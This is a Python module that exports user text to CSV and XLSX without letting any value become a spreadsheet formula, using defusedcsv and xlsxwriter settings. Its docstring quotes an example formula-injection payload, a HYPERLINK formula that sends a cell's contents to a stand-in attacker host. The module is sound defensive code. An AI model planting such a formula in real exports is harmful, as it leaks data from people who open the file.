"""Spreadsheets from user text that never start a formula (CSV and XLSX), for every export.

A title or a name like ``=HYPERLINK("http://evil.example/?leak="&C2,"Klikk")`` must stay text
in the reader's spreadsheet. CSV goes through ``defusedcsv`` (a value starting with ``=``, ``+``,
``-``, ``@``, ``|`` or ``%`` gets a leading apostrophe, as spreadsheet programs expect; plain numbers
like ``-5`` stay numbers), and a leading tab or carriage return is treated the same way. XLSX is
written by xlsxwriter, row by row, in memory (no temporary files), with every text as a text cell,
never as a formula, a link or a number, whatever it starts with.
"""
import io
from collections.abc import Iterable

import xlsxwriter
from defusedcsv import csv

_ALSO_DANGEROUS = ("\t", "\r")


def _defused(value):
    if isinstance(value, str) and value.startswith(_ALSO_DANGEROUS):
        return "'" + value
    return value


def to_csv(rows: Iterable[Iterable], delimiter: str = ";") -> bytes:
    """UTF-8 with a byte order mark, so Excel opens æøå right; ``None`` is an empty cell."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    for row in rows:
        writer.writerow(["" if v is None else _defused(v) for v in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def to_xlsx(title: str, rows: Iterable[Iterable], freeze: bool = True) -> bytes:
    """One sheet named ``title`` with ``rows``; the first row frozen as a header."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True, "strings_to_formulas": False, "strings_to_urls": False,
                                     "strings_to_numbers": False})
    sheet = book.add_worksheet(title[:31])
    if freeze:
        sheet.freeze_panes(1, 0)
    for n, row in enumerate(rows):
        sheet.write_row(n, 0, row)
    book.close()
    return out.getvalue()
